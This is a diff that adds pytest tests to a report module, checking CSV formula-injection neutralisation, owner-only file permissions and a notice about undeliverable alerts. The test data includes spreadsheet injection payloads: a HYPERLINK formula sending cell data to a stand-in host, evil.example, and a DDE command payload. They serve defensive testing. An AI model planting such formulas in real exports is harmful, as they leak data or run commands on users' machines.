@@ -119,3 +119,67 @@ def test_make_report_runs_the_module_from_a_shell(filled):
 def test_a_negative_event_count_is_refused():
     with pytest.raises(SystemExit):
         main(["--events", "-1"])
+
+
+# -- CSV formula injection and the file's mode (issue 16 item 6) ---------------------------------------
+
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?d="&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_a_formula_are_neutralised():
+    from include.onboarding.report import ROW_COLUMNS, to_csv
+
+    rows = [
+        {c: None for c in ROW_COLUMNS}
+        | {"customer_key": f"K{i}", "organization_name": text, "status_reason": text, "events": []}
+        for i, text in enumerate(FORMULAS)
+    ]
+    rows[0]["events"] = [{"event_at": "2026-11-29", "outcome": "invalid", "message": FORMULAS[0]}]
+
+    lines = list(csv.DictReader(io.StringIO(to_csv(rows, 1))))
+
+    assert [r["organization_name"] for r in lines] == ["'" + text for text in FORMULAS]
+    assert [r["status_reason"] for r in lines] == ["'" + text for text in FORMULAS]
+    assert lines[0]["event_1_message"] == "'" + FORMULAS[0]
+    assert lines[0]["customer_key"] == "K0"  # an ordinary value is left as it is
+
+
+@pytest.mark.parametrize("warehouse", ["sqlite"], indirect=True)
+def test_the_output_file_is_readable_by_its_owner_only(filled, tmp_path):
+    out = tmp_path / "report.csv"
+    out.write_text("an older report")
+    out.chmod(0o644)
+
+    assert main(["--output", str(out)]) == 0
+    assert out.stat().st_mode & 0o777 == 0o600
+    assert "INV" in out.read_text()
+
+    fresh = tmp_path / "sub" / "fresh.json"
+    assert main(["--format", "json", "--output", str(fresh)]) == 0
+    assert fresh.stat().st_mode & 0o777 == 0o600
+
+
+@pytest.mark.parametrize("warehouse", ["sqlite"], indirect=True)
+def test_the_report_says_when_alerts_were_set_aside_as_dead(filled, capsys):
+    from datetime import timedelta
+
+    from include.onboarding.ops_store import OperationsWarehouse
+
+    store = OperationsWarehouse("customer_warehouse")
+    main(["--format", "json"])
+    assert "set aside" not in capsys.readouterr().err  # no alerts table yet: nothing said
+    store.create_operations_tables()
+    store.owe_alert("d", "r1", ["email"], {"n": 1})
+    holder, _, _ = store.lease_alert("d", "r1", "email", stale_after=timedelta(hours=1))
+    store.settle_alert("d", "r1", "email", holder, outcome="dead", error="SMTPRecipientsRefused")
+
+    assert main(["--format", "json"]) == 0
+
+    assert "1 alert(s) could not be delivered and were set aside" in capsys.readouterr().err
